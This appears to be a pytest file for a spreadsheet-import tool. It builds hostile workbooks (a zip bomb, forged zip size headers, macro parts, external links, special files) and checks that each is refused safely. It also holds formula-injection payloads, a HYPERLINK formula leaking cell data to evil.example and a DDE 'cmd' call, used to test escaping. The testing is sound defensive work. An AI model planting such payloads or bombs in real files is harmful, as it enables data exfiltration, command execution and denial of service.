"""Hostile and broken workbooks: each is refused with a located, readable error (or, where
that is the decision, read safely), within bounded time and memory, and no file of the data
folder changes. `okrtool import-reports` runs as a real subprocess under a 1 GiB address-space
limit, like tests/test_hostile_data.py. Then: text that looks like a formula never leaves
okrtool unescaped, in any .csv or .xlsx it writes."""

from __future__ import annotations

import os
import re
import resource
import shutil
import struct
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
from collections.abc import Callable
from datetime import datetime
from datetime import time as clock
from pathlib import Path
from xml.sax.saxutils import escape

import openpyxl
import pytest
from xlsx_helpers import HEADER, make_template, sheet

from okrtool.io.cells import csv_read, csv_text, is_formula_like

from helpers import copy_dataset, edit, run, snapshot

MEMORY_LIMIT = 1024**3
TIME_LIMIT_S = 20.0
PEAK_LIMIT_KB = 400 * 1024
BANG_RAK = "reports/2567/bang-rak.csv"
SAVE_AS = "    hint: open it in Excel (or LibreOffice) and save it as an Excel Workbook (.xlsx)"
SMALLER = (
    "    hint: a report workbook is a few hundred KB: copy the report table into a new workbook "
    "(without pictures), save it as .xlsx and send that"
)
NUMBER = "(like 1234, 1,234.5, ๑๒๓๔ or 57.05%)"


def _limit_memory() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))


def import_bounded(root: Path, *args: str) -> tuple[int, list[str], float, int]:
    """Run `okrtool import-reports --data root ARGS` in a subprocess under the memory limit,
    killed after TIME_LIMIT_S; return exit code, output lines, seconds and its peak RSS (KB)."""
    log = root.parent / "import-output.txt"
    start = time.perf_counter()
    with open(log, "wb") as out:
        proc = subprocess.Popen(
            [sys.executable, "-m", "okrtool", "import-reports", "--data", str(root), *args],
            stdout=out,
            stderr=subprocess.STDOUT,
            preexec_fn=_limit_memory,
            env={**os.environ, "NO_COLOR": "1"},
        )
    killer = threading.Timer(TIME_LIMIT_S, proc.kill)
    killer.start()
    try:
        _, status, usage = os.wait4(proc.pid, 0)  # the child's own rusage: its peak memory
    finally:
        killer.cancel()
    proc.returncode = os.waitstatus_to_exitcode(status)
    seconds = time.perf_counter() - start
    return proc.returncode, log.read_text(encoding="utf-8").splitlines(), seconds, usage.ru_maxrss


# --- building workbooks byte by byte ------------------------------------------------------------

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
DOC = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def cell_xml(ref: str, value: object) -> str:
    """One cell: a number, an inline text, or raw XML for the cell's insides (``<v>…``)."""
    if value is None:
        return ""
    if isinstance(value, Raw):
        return f'<c r="{ref}"{value.attrs}>{value.xml}</c>'
    if isinstance(value, int | float):
        return f'<c r="{ref}"><v>{value}</v></c>'
    return (
        f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(str(value))}</t></is></c>'
    )


class Raw:
    """A cell written as given: ``Raw('<v>#REF!</v>', ' t="e"')``."""

    def __init__(self, xml: str, attrs: str = "") -> None:
        self.xml, self.attrs = xml, attrs


def rows_xml(rows: list[list[object]], first: int = 1) -> str:
    out = []
    for r, row in enumerate(rows, first):
        cells = "".join(cell_xml(f"{chr(65 + c)}{r}", v) for c, v in enumerate(row))
        out.append(f'<row r="{r}">{cells}</row>')
    return "".join(out)


def sheet_xml(body: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<worksheet xmlns="{MAIN}" xmlns:r="{DOC}"><sheetData>{body}</sheetData></worksheet>'
    )


def package(sheets: list[tuple[str, str, str]]) -> dict[str, str]:
    """The parts of a minimal .xlsx with ``sheets`` (name, sheetData XML, state)."""
    entries = "".join(
        f'<sheet name="{escape(name)}" sheetId="{i}"'
        + ("" if state == "visible" else f' state="{state}"')
        + f' r:id="rId{i}"/>'
        for i, (name, _, state) in enumerate(sheets, 1)
    )
    links = "".join(
        f'<Relationship Id="rId{i}" Type="{DOC}/worksheet" Target="worksheets/sheet{i}.xml"/>'
        for i in range(1, len(sheets) + 1)
    )
    overrides = "".join(
        f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        for i in range(1, len(sheets) + 1)
    )
    parts = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?>\n<Types xmlns="http://schemas.openxmlformats'
            '.org/package/2006/content-types"><Default Extension="rels" ContentType="application/'
            'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType'
            '="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/'
            f'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>{overrides}</Types>'
        ),
        "_rels/.rels": (
            f'<?xml version="1.0" encoding="UTF-8"?>\n<Relationships xmlns="{RELS}"><Relationship '
            f'Id="rId1" Type="{DOC}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            f'<?xml version="1.0" encoding="UTF-8"?>\n<workbook xmlns="{MAIN}" xmlns:r="{DOC}">'
            f"<sheets>{entries}</sheets></workbook>"
        ),
        "xl/_rels/workbook.xml.rels": (
            f'<?xml version="1.0" encoding="UTF-8"?>\n<Relationships xmlns="{RELS}">{links}'
            "</Relationships>"
        ),
    }
    for i, (_, body, _) in enumerate(sheets, 1):
        parts[f"xl/worksheets/sheet{i}.xml"] = sheet_xml(body)
    return parts


def write_zip(path: Path, parts: dict[str, str | bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
    return path


#: The label line and header of a sheet typed for bang-rak; its first data row is row 3.
TOP = [["หน่วยงาน:", "สำนักงานเขตบางรัก"], HEADER]


def book(path: Path, rows: list[list[object]], *more: tuple[str, str, str]) -> Path:
    """A one-sheet workbook for bang-rak (``Sheet1``, the label line and the header, then
    ``rows``), written byte by byte; ``more`` sheets after it."""
    return write_zip(path, package([("Sheet1", rows_xml(TOP + rows), "visible"), *more]))


GOOD_ROW = ["trees-planted", "2567-07", 10, None]


def forge(path: Path, declared: dict[str, int] | None = None, flags: int = 0) -> Path:
    """Rewrite the zip directory (and local headers) of ``path``: the unpacked size of the parts
    in ``declared``, and general-purpose ``flags`` (1 = encrypted) on every part."""
    data = bytearray(path.read_bytes())
    declared = declared or {}
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        name_len, extra_len, comment_len = struct.unpack_from("<HHH", data, at + 28)
        name = data[at + 46 : at + 46 + name_len].decode()
        local = struct.unpack_from("<I", data, at + 42)[0]
        if name in declared:
            struct.pack_into("<I", data, at + 24, declared[name])
            struct.pack_into("<I", data, local + 22, declared[name])
        if flags:
            data[at + 8] |= flags
            data[local + 6] |= flags
        at = data.find(b"PK\x01\x02", at + 46 + name_len + extra_len + comment_len)
    path.write_bytes(bytes(data))
    return path


def mib(n: int) -> str:
    return f"{n / 2**20:,.1f} MiB"


# --- the cases ---------------------------------------------------------------------------------

#: 1,000 rows of a sheet, 80 KB of XML.
BOMB_ROW = '<row><c t="inlineStr"><is><t>trees-planted</t></is></c><c><v>1</v></c></row>' * 1000
BOMB_CHUNKS = 200 * 2**20 // len(BOMB_ROW)
BOMB_BYTES = BOMB_CHUNKS * len(BOMB_ROW)  # 200 MiB


def zip_bomb(tmp_path: Path) -> Path:
    """A sheet of ~200 MiB of repeated XML that packs into a few hundred KB."""
    path = tmp_path / "bomb.xlsx"
    parts = package([("Sheet1", "", "visible")])
    del parts["xl/worksheets/sheet1.xml"]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            chunk = BOMB_ROW.encode()
            for _ in range(BOMB_CHUNKS):
                part.write(chunk)
    assert path.stat().st_size < 2 * 2**20
    return path


def million_rows(
    tmp_path: Path, dimension: bytes = b'<dimension ref="A1:B1000001"/>', rows: int = 1_000_000
) -> Path:
    """A header, then 1,000,000 rows: written as XML into the zip, not cell by cell, with the
    <dimension> element Excel writes first (without it, openpyxl parses the whole sheet as it
    opens the workbook: the slowest path, bounded by the limit of a part)."""
    path = tmp_path / "million.xlsx"
    parts = package([("Sheet1", "", "visible")])
    body = sheet_xml("\0").encode().split(b"\0")
    dimension += b"<sheetData>"
    head = rows_xml([["Key result id", "Value"]]).encode()
    row = b"<row><c><v>1</v></c></row>"  # 26 MiB in all: under the limit of a part
    xml = body[0].replace(b"<sheetData>", dimension) + head + row * rows + body[1]
    parts["xl/worksheets/sheet1.xml"] = xml
    return write_zip(path, parts)


def stray_cell_far_below(tmp_path: Path) -> Path:
    """A short table and one formatted, empty cell in the last row Excel has (1,048,576)."""
    path = tmp_path / "bang-rak-stray.xlsx"
    far = '<row r="1048576"><c r="C1048576" s="0"/></row>'
    return write_zip(path, package([("Sheet1", rows_xml([*TOP, GOOD_ROW]) + far, "visible")]))


def wide_rows(tmp_path: Path) -> Path:
    """30,000 rows that each reach column XFD (16,384 cells a row if filled in)."""
    path = tmp_path / "bang-rak-wide.xlsx"
    wide = "".join(f'<row r="{r}"><c r="XFD{r}"><v>1</v></c></row>' for r in range(4, 30_004))
    return write_zip(path, package([("Sheet1", rows_xml([*TOP, GOOD_ROW]) + wide, "visible")]))


def forged_size(tmp_path: Path) -> Path:
    """A small sheet whose zip directory declares 3.75 GiB unpacked."""
    return forge(
        book(tmp_path / "forged.xlsx", [GOOD_ROW]), {"xl/worksheets/sheet1.xml": 0xF0000000}
    )


def parts_too_large_together(tmp_path: Path) -> Path:
    """Three sheets declaring 30 MiB each: each under the limit of a part, not together."""
    sheets = [(f"S{i}", "", "visible") for i in (2, 3)]
    path = book(tmp_path / "together.xlsx", [GOOD_ROW], *sheets)
    sizes = {f"xl/worksheets/sheet{i}.xml": 30 * 2**20 for i in (1, 2, 3)}
    return forge(path, sizes)


def lying_directory(tmp_path: Path) -> Path:
    """The directory declares 4 KB for a sheet that really unpacks to ~20 MiB."""
    path = tmp_path / "lying.xlsx"
    parts = package([("Sheet1", "", "visible")])
    parts["xl/worksheets/sheet1.xml"] = sheet_xml(rows_xml([*TOP, GOOD_ROW]) + BOMB_ROW * 100)
    return forge(write_zip(path, parts), {"xl/worksheets/sheet1.xml": 4096})


def lying_second_sheet(tmp_path: Path) -> Path:
    """A good table beside a sheet without one whose directory entry lies about its size: the
    lie shows only when that sheet is read whole (looking for formulas)."""
    path = tmp_path / "bang-rak-lying.xlsx"
    notes = rows_xml([["notes"]]) + BOMB_ROW * 20  # 1.6 MB
    rows = [
        GOOD_ROW,
        ["trees-perennial", "2567-07", None, None],
    ]  # a blank value: look for formulas
    book(path, rows, ("Notes", notes, "visible"))
    return forge(path, {"xl/worksheets/sheet2.xml": 2048})


def many_parts(tmp_path: Path) -> Path:
    path = tmp_path / "parts.xlsx"
    parts: dict[str, str | bytes] = {**package([("Sheet1", rows_xml([*TOP, GOOD_ROW]), "visible")])}
    parts.update({f"xl/media/p{i}.bin": b"" for i in range(20_000)})
    return write_zip(path, parts)


def huge_file(tmp_path: Path) -> Path:
    path = tmp_path / "huge.xlsx"
    with open(path, "wb") as f:
        f.write(b"PK\x03\x04")
        f.truncate(65 * 2**20)  # sparse: no 65 MiB written to the disk
    return path


def with_parts(
    name: str, extra: dict[str, str | bytes], value: object = 10
) -> Callable[[Path], Path]:
    def make(tmp_path: Path) -> Path:
        parts: dict[str, str | bytes] = {
            **package(
                [("Sheet1", rows_xml([*TOP, ["trees-planted", "2567-07", value, None]]), "visible")]
            )
        }
        parts.update(extra)
        return write_zip(tmp_path / name, parts)

    return make


EXTERNAL_LINK = {
    "xl/externalLinks/externalLink1.xml": (
        f'<externalLink xmlns="{MAIN}"><externalBook xmlns:r="{DOC}" r:id="rId1"/></externalLink>'
    ),
    "xl/externalLinks/_rels/externalLink1.xml.rels": (
        f'<Relationships xmlns="{RELS}"><Relationship Id="rId1" Type="{DOC}/externalLinkPath" '
        'Target="file:///C:/Users/officer/Desktop/figures.xlsx" TargetMode="External"/>'
        "</Relationships>"
    ),
}


def hidden_table(state: str) -> Callable[[Path], Path]:
    def make(tmp_path: Path) -> Path:
        return write_zip(
            tmp_path / f"{state}.xlsx",
            package(
                [
                    ("Cover", rows_xml([["รายงานผลการดำเนินงาน เขตบางรัก"]]), "visible"),
                    ("Data", rows_xml([*TOP, GOOD_ROW]), state),
                ]
            ),
        )

    return make


def error_cell(error: str) -> Callable[[Path], Path]:
    def make(tmp_path: Path) -> Path:
        cached = Raw(f"<f>SUM(Z1:Z2)</f><v>{error}</v>", ' t="e"')
        return book(tmp_path / "errors.xlsx", [["trees-planted", "2567-07", cached, None]])

    return make


def typed(value: object, **formats: str) -> Callable[[Path], Path]:
    def make(tmp_path: Path) -> Path:
        rows = [*TOP, ["trees-planted", "2567-07", value, None]]
        return sheet(tmp_path / "typed.xlsx", rows, **formats)

    return make


def raw_bytes(name: str, data: bytes) -> Callable[[Path], Path]:
    def make(tmp_path: Path) -> Path:
        (tmp_path / name).write_bytes(data)
        return tmp_path / name

    return make


def truncated(tmp_path: Path) -> Path:
    good = book(tmp_path / "good.xlsx", [GOOD_ROW])
    path = tmp_path / "truncated.xlsx"
    path.write_bytes(good.read_bytes()[: good.stat().st_size // 2])
    return path


def renamed_ods(tmp_path: Path) -> Path:
    path = tmp_path / "calc.xlsx"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        zf.writestr("content.xml", "<office:document-content/>")
    return path


def no_workbook_part(tmp_path: Path) -> Path:
    parts = package([("Sheet1", rows_xml([*TOP, GOOD_ROW]), "visible")])
    del parts["xl/workbook.xml"]
    return write_zip(tmp_path / "partial.xlsx", parts)


def encrypted_parts(tmp_path: Path) -> Path:
    """A zip whose parts are marked encrypted (a password on the archive)."""
    return forge(book(tmp_path / "zipcrypto.xlsx", [GOOD_ROW]), flags=1)


def outside_link(tmp_path: Path) -> Path:
    """A symbolic link in the inbox to a workbook outside it."""
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    target = book(elsewhere / "bang-rak.xlsx", [GOOD_ROW])
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    (inbox / "bang-rak.xlsx").symlink_to(target)
    return inbox


def folder_named_xlsx(tmp_path: Path) -> Path:
    (tmp_path / "x.xlsx").mkdir()
    return tmp_path / "x.xlsx"


HIDDEN = (
    "E802 no report table found: no row in the first 50 rows of a visible sheet has both a key "
    "result header ('Key result id' / 'รหัสผลลัพธ์หลัก') and a value header ('Value' / "
    "'ผลการดำเนินงาน') (sheet 'Data' holds one but is hidden; hidden sheets are not read, since "
    "nobody sees what they hold)"
)
HIDDEN_HINT = (
    "    hint: unhide the sheet (right-click a sheet tab › Unhide) or copy the table onto a "
    "visible sheet, check it, save and send again"
)
MACROS_HINT = (
    "    hint: in Excel: File › Save As… › Excel Workbook (.xlsx), which leaves the macros out; "
    "send that file"
)
MACROS = (
    "E808 found macros ({}), expected a workbook without them: macros are never run, and a "
    "workbook that holds them is not accepted"
)


def error_lines(error: str) -> list[str]:
    return [
        f"{{book}} › Sheet1!C3: E803 found the Excel error {error}, expected a number of trees: "
        "fix the formula or type the number"
    ]


def loop_link(path: Path) -> Path:
    os.symlink(path, path)
    return path


def fifo(tmp_path: Path) -> Path:
    path = tmp_path / "bang-rak.xlsx"
    os.mkfifo(path)
    return path


# name → (make the workbook(s) in tmp_path; the lines the import prints for it, {book} standing
# for the path given; the exit code)
CASES: dict[str, tuple[Callable[[Path], Path], list[str], int]] = {
    # too large: refused by what the zip directory declares, before anything is unpacked
    "zip bomb: 200 MiB of XML packed into a few hundred KB": (
        zip_bomb,
        [
            "{book}: E807 found the part 'xl/worksheets/sheet1.xml' declaring "
            f"{mib(BOMB_BYTES)} unpacked, expected at most 32.0 MiB a part (is it a zip bomb?)",
            SMALLER,
        ],
        1,
    ),
    "zip directory declaring 3.75 GiB for a sheet": (
        forged_size,
        [
            "{book}: E807 found the part 'xl/worksheets/sheet1.xml' declaring 3,840.0 MiB "
            "unpacked, expected at most 32.0 MiB a part (is it a zip bomb?)",
            SMALLER,
        ],
        1,
    ),
    "parts declaring 90 MiB together": (
        parts_too_large_together,
        [
            "{book}: E807 found parts declaring 90.0 MiB unpacked in all, expected at most "
            "64.0 MiB (is it a zip bomb?)",
            SMALLER,
        ],
        1,
    ),
    "zip directory lying: declared 4 KB, really 20 MiB": (
        lying_directory,
        [
            "{book}: E801 the file is damaged and cannot be read (BadZipFile)",
            SAVE_AS,
        ],
        1,
    ),
    "zip directory lying about a sheet read only to look for formulas": (
        lying_second_sheet,
        ["{book}: E801 the file is damaged and cannot be read (BadZipFile)", SAVE_AS],
        1,
    ),
    "20,000 parts in the archive": (
        many_parts,
        [
            "{book}: E807 found 20,005 parts in the archive, expected at most 10,000 for a "
            "workbook",
            SMALLER,
        ],
        1,
    ),
    "a 65 MiB file": (
        huge_file,
        [
            "{book}: E807 found a file of 65.0 MiB, expected at most 64.0 MiB for a report "
            "workbook",
            SMALLER,
        ],
        1,
    ),
    "1,000,000 rows": (
        million_rows,
        [
            "{book}: E807 found a value in Sheet1!A50002, more than 50,000 rows below the "
            "table's header, expected a table of at most 50,000 rows",
            "    hint: split the table into workbooks of at most 50,000 rows each",
        ],
        1,
    ),
    "300,000 rows and no <dimension> element": (
        lambda tmp_path: million_rows(tmp_path, b"", 300_000),
        [
            "{book}: E807 found a value in Sheet1!A50002, more than 50,000 rows below the "
            "table's header, expected a table of at most 50,000 rows",
            "    hint: split the table into workbooks of at most 50,000 rows each",
        ],
        1,
    ),
    # active content: refused with what to do
    ".xlsx holding xl/vbaProject.bin": (
        with_parts("macros.xlsx", {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 Attribute VB_Name"}),
        ["{book}: " + MACROS.format("xl/vbaProject.bin"), MACROS_HINT],
        1,
    ),
    ".xlsx holding an Excel 4.0 macro sheet": (
        with_parts("xlm.xlsx", {"xl/macrosheets/sheet1.xml": "<xm:macrosheet/>"}),
        ["{book}: " + MACROS.format("xl/macrosheets/sheet1.xml"), MACROS_HINT],
        1,
    ),
    "external link and a formula into another workbook": (
        with_parts("linked.xlsx", EXTERNAL_LINK, Raw("<f>[1]Sheet1!A1</f><v>7</v>")),
        [
            "{book}: E808 found 1 link(s) to other workbooks (xl/externalLinks/externalLink1.xml), "
            "expected a workbook whose values are its own: a linked value may be stale or come "
            "from a file that was not sent",
            "    hint: in Excel: Data › Edit Links › Break Link (the values stay as they are), "
            "save and send the file again",
        ],
        1,
    ),
    # hidden sheets are not read
    "the table on a hidden sheet": (hidden_table("hidden"), ["{book}: " + HIDDEN, HIDDEN_HINT], 1),
    "the table on a very hidden sheet": (
        hidden_table("veryHidden"),
        ["{book}: " + HIDDEN, HIDDEN_HINT],
        1,
    ),
    # cells: refused at the cell
    "#REF! in the value column": (error_cell("#REF!"), error_lines("#REF!"), 1),
    "#DIV/0! in the value column": (error_cell("#DIV/0!"), error_lines("#DIV/0!"), 1),
    "#N/A in the value column": (error_cell("#N/A"), error_lines("#N/A"), 1),
    "#VALUE! in the value column": (error_cell("#VALUE!"), error_lines("#VALUE!"), 1),
    "a date where a number belongs": (
        typed(datetime(2024, 7, 15)),
        [
            "{book} › Sheet1!C3: E803 found the date 2024-07-15, expected a number of trees; "
            "Excel turned what was typed into a date: format the cell as Number and type the "
            "number again"
        ],
        1,
    ),
    "TRUE where a number belongs": (
        typed(True),
        [f"{{book}} › Sheet1!C3: E803 found TRUE, expected a number of trees {NUMBER}"],
        1,
    ),
    "a time where a number belongs": (
        typed(clock(12, 30)),
        [
            "{book} › Sheet1!C3: E803 found the time 12:30, expected a number of trees; "
            "Excel turned what was typed into a time: format the cell as Number and type the "
            "number again"
        ],
        1,
    ),
    "1 MB of text in the value cell": (
        lambda tmp_path: book(
            tmp_path / "long.xlsx", [["trees-planted", "2567-07", "1" * 1_000_000 + "x", None]]
        ),
        [
            "{book} › Sheet1!C3: E803 found '1111111111111111111111111111111111111...', "
            f"expected a number of trees {NUMBER}"
        ],
        1,
    ),
    "1 MB of text in the note": (
        lambda tmp_path: book(
            tmp_path / "note.xlsx", [["trees-planted", "2567-07", 10, "น" * 1_000_000]]
        ),
        [
            "{book} › Sheet1!D3: E803 found a note of 1,000,000 characters, expected at most 1,000",
            "    hint: shorten the note: it is stored with the value in the report file",
        ],
        1,
    ),
    "400 digits, beyond what a float holds": (
        lambda tmp_path: book(
            tmp_path / "digits.xlsx", [["trees-planted", "2567-07", "9" * 400, None]]
        ),
        [
            "{book} › Sheet1!C3: E803 found '9999999999999999999999999999999999999...', expected "
            "a number of trees below 1,000,000,000,000,000 (15 digits, what Excel keeps) and, "
            "unless 0, at least 0.000001"
        ],
        1,
    ),
    "a control character (ESC) in a cell": (
        lambda tmp_path: book(
            tmp_path / "escape.xlsx",
            [["trees-planted", "2567-07", Raw("<v>1&#x1b;[31m</v>"), None]],
        ),
        ["{book}: E801 the file is damaged and cannot be read (ParseError)", SAVE_AS],
        1,
    ),
    # not a workbook, or not there
    "a truncated zip": (
        truncated,
        ["{book}: E801 the file is damaged (a broken .xlsx archive)", SAVE_AS],
        1,
    ),
    "random bytes named .xlsx": (
        raw_bytes("random.xlsx", bytes(range(256)) * 64),
        [
            "{book}: E801 found a file of no kind okrtool knows (it begins 00 01 02 03 04 05 06 "
            "07), expected an .xlsx or .ods workbook saved from Excel or LibreOffice",
            SAVE_AS,
        ],
        1,
    ),
    "an empty file": (
        raw_bytes("empty.xlsx", b""),
        [
            "{book}: E801 the file is empty (0 bytes)",
            "    hint: send the workbook again: this copy is empty",
        ],
        1,
    ),
    "a CSV renamed .xlsx": (
        raw_bytes("report.xlsx", b"Key result id,Value\ntrees-planted,10\n"),
        [
            "{book}: E801 found a text file (a CSV export?), expected an .xlsx or .ods workbook saved from Excel or LibreOffice",
            SAVE_AS,
        ],
        1,
    ),
    "a .txt in Thai renamed .xlsx": (
        raw_bytes("notes.xlsx", "รายงานผลการดำเนินงาน\n".encode() * 400),
        [
            "{book}: E801 found a text file (a CSV export?), expected an .xlsx or .ods workbook saved from Excel or LibreOffice",
            SAVE_AS,
        ],
        1,
    ),
    "an .xls (OLE2) renamed .xlsx": (
        raw_bytes("old.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096),
        [
            "{book}: E801 found an Excel 97–2003 workbook (.xls), expected an .xlsx or .ods workbook saved from Excel or LibreOffice",
            SAVE_AS,
        ],
        1,
    ),
    # an .ods is read like an .xlsx (tests/test_reader.py); this one's content.xml is broken
    "a damaged .ods renamed .xlsx": (
        renamed_ods,
        ["{book}: E801 the file is damaged and cannot be read (ParseError)", SAVE_AS],
        1,
    ),
    "password-protected (encrypted OLE2 container)": (
        raw_bytes(
            "locked.xlsx",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
            + b"\0" * 1024
            + "EncryptionInfo".encode("utf-16-le")
            + b"\0" * 64
            + "EncryptedPackage".encode("utf-16-le")
            + b"\0" * 1024,
        ),
        [
            "{book}: E801 the workbook is password-protected (encrypted); it cannot be read",
            "    hint: remove the password (Excel: File › Info › Protect Workbook › Encrypt with "
            "Password, clear it) and save again; locked sheets without a password are fine",
        ],
        1,
    ),
    "a zip with its parts encrypted": (
        encrypted_parts,
        ["{book}: E801 the file is damaged (a broken .xlsx archive)", SAVE_AS],
        1,
    ),
    "a zip with no workbook part": (
        no_workbook_part,
        [
            "{book}: E801 a zip archive, but not an Excel workbook (no xl/workbook.xml)",
            "    hint: send the .xlsx workbook itself",
        ],
        1,
    ),
    "a symbolic link to a workbook outside the folder given": (
        outside_link,
        [
            "{book}/bang-rak.xlsx: E801 a symbolic link to {tmp}/elsewhere/bang-rak.xlsx, outside "
            "the folder it is in",
            "    hint: copy the workbook itself into the folder you import",
        ],
        1,
    ),
    "a device (/dev/zero)": (
        lambda tmp_path: Path("/dev/zero"),
        [
            "{book}: E801 found a device, expected a file",
            "    hint: give the .xlsx file",
        ],
        1,
    ),
    "a named pipe (FIFO) named .xlsx": (  # it hung: open() waits for a writer
        fifo,
        [
            "{book}: E801 found a named pipe (FIFO), expected a file",
            "    hint: give the .xlsx file",
        ],
        1,
    ),
    "a folder named x.xlsx": (
        folder_named_xlsx,
        ["okrtool: {book}: no workbooks (.xlsx) in this folder"],
        2,
    ),
    "a symbolic link that loops, named .xlsx": (
        lambda tmp_path: loop_link(tmp_path / "bang-rak.xlsx"),
        ["okrtool: {book}: a symbolic link that loops onto itself"],
        2,
    ),
    "a path that does not exist": (
        lambda tmp_path: tmp_path / "nowhere" / "report.xlsx",
        ["okrtool: {book}: no such file"],
        2,
    ),
}


@pytest.mark.parametrize("name", list(CASES))
def test_hostile_workbook_is_refused_with_a_readable_error(tmp_path: Path, name: str) -> None:
    make, expected, exit_code = CASES[name]
    root = copy_dataset(tmp_path)
    given = make(tmp_path)
    before = snapshot(root)
    code, lines, seconds, peak_kb = import_bounded(root, str(given))
    wanted = [line.format(book=given, tmp=tmp_path) for line in expected]
    printed = [line for line in lines if line.startswith((str(given), "    hint:", "okrtool:"))]
    assert (code, printed) == (exit_code, wanted), "\n".join(lines)
    if exit_code == 1:
        name = wanted[0].split(": E8")[0].split(" › ")[0]
        assert lines[0] == f"REFUSED {name} — nothing of it was written:"
    assert seconds < TIME_LIMIT_S
    assert peak_kb < PEAK_LIMIT_KB
    assert snapshot(root) == before


# --- read safely: what is decided to be fine ----------------------------------------------------


def stored(root: Path, kr: str, period: str) -> str | None:
    for line in (root / BANG_RAK).read_text(encoding="utf-8").splitlines()[1:]:
        row = line.split(",")
        if row[:2] == [kr, period]:
            return row[2]
    return None


@pytest.mark.parametrize(
    "make",
    [stray_cell_far_below, wide_rows],
    ids=["an empty cell in row 1,048,576", "30,000 rows reaching column XFD"],
)
def test_far_and_wide_empty_cells_are_passed_over_in_bounded_time(
    tmp_path: Path, make: Callable[[Path], Path]
) -> None:
    root = copy_dataset(tmp_path)
    code, lines, seconds, peak_kb = import_bounded(root, str(make(tmp_path)))
    assert code == 0, "\n".join(lines)
    assert "Merged 1 of 1 file: 1 added, 0 changed, 0 unchanged." in lines
    assert stored(root, "trees-planted", "2567-07") == "10"
    assert seconds < TIME_LIMIT_S
    assert peak_kb < PEAK_LIMIT_KB


def test_a_hidden_sheet_beside_a_visible_table_is_not_read(tmp_path: Path) -> None:
    root = copy_dataset(tmp_path)
    path = write_zip(
        tmp_path / "bang-rak-old.xlsx",
        package(
            [
                ("July", rows_xml([*TOP, GOOD_ROW]), "visible"),
                ("June", rows_xml([*TOP, ["trees-perennial", "2567-06", 99, None]]), "hidden"),
            ]
        ),
    )
    code, lines, _, _ = import_bounded(root, str(path))
    assert code == 0, "\n".join(lines)
    assert lines[0] == f"{path}: note: hidden sheet 'June' holds a report table: not read"
    assert stored(root, "trees-planted", "2567-07") == "10"
    assert stored(root, "trees-perennial", "2567-06") is None


@pytest.mark.parametrize(
    "text",
    ["\u200b1,234\ufeff", "\u200f1,234\u200f", "\u202b1,234\u202c", "\u20661,234\u2069"],
    ids=["zero-width spaces", "right-to-left marks", "an embedding", "an isolate"],
)
def test_invisible_marks_around_a_number_are_read(tmp_path: Path, text: str) -> None:
    root = copy_dataset(tmp_path)
    path = typed(text)(tmp_path)
    code, lines, _, _ = import_bounded(root, str(path))
    assert code == 0, "\n".join(lines)
    assert stored(root, "trees-planted", "2567-07") == "1234"


# --- text that looks like a formula never leaves unescaped ----------------------------------------

INJECTIONS = {
    "trees-planted": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "trees-perennial": "+cmd|' /C calc'!A0",
    "trees-waste-collected": "@SUM(1)",
    "canals-dredged": "-2+3",
}


def test_escaping_leaves_numbers_alone_and_reads_back() -> None:
    for text in ("=1+1", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "-", "=", "@", "x", ""):
        assert csv_read(csv_text(text)) == text
        assert csv_text(csv_text(text)) == csv_text(text)  # rewriting a report file is stable
    assert csv_read("'=1") == "=1"  # as in Excel, where a leading ' only says "text"
    assert [csv_text(t) for t in ("=1+1", "-2+3", "@x", "\tx", "\rx", "'=x")] == [
        "'=1+1",
        "'-2+3",
        "'@x",
        "'\tx",
        "'\rx",
        "'=x",
    ]
    for number in ("-5", "+5", "-0.5", "-.5", "1e5", "-1.5E-3", "42", "", "x=1", " =1"):
        assert not is_formula_like(number)
        assert csv_text(number) == number
    assert csv_text(-5.0) == -5.0


def test_formula_like_notes_and_file_name_are_escaped_in_the_report_file(tmp_path: Path) -> None:
    root = copy_dataset(tmp_path)
    rows = [[kr, "2567-07", n * 10, note] for n, (kr, note) in enumerate(INJECTIONS.items(), 1)]
    path = book(tmp_path / "@report.xlsx", rows)  # notes typed as text, as after a '
    code, out = run("import-reports", "--data", str(root), str(path))
    assert code == 0, out
    text = (root / BANG_RAK).read_text(encoding="utf-8")
    stamp = re.search(r",(\d{4}-\d\d-\d\dT[^,\n]+)\n", text).group(1)  # type: ignore[union-attr]
    digest = re.search(r",([0-9a-f]{64}),", text).group(1)  # type: ignore[union-attr]
    imported = [line for line in text.splitlines() if ",2567-07," in line]
    assert imported == [
        f"canals-dredged,2567-07,40,import,'-2+3,'@report.xlsx,{digest},Sheet1!C6,{stamp}",
        f"trees-perennial,2567-07,20,import,'+cmd|' /C calc'!A0,'@report.xlsx,{digest},Sheet1!C4,{stamp}",
        "trees-planted,2567-07,10,import,"
        '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",'
        f"'@report.xlsx,{digest},Sheet1!C3,{stamp}",
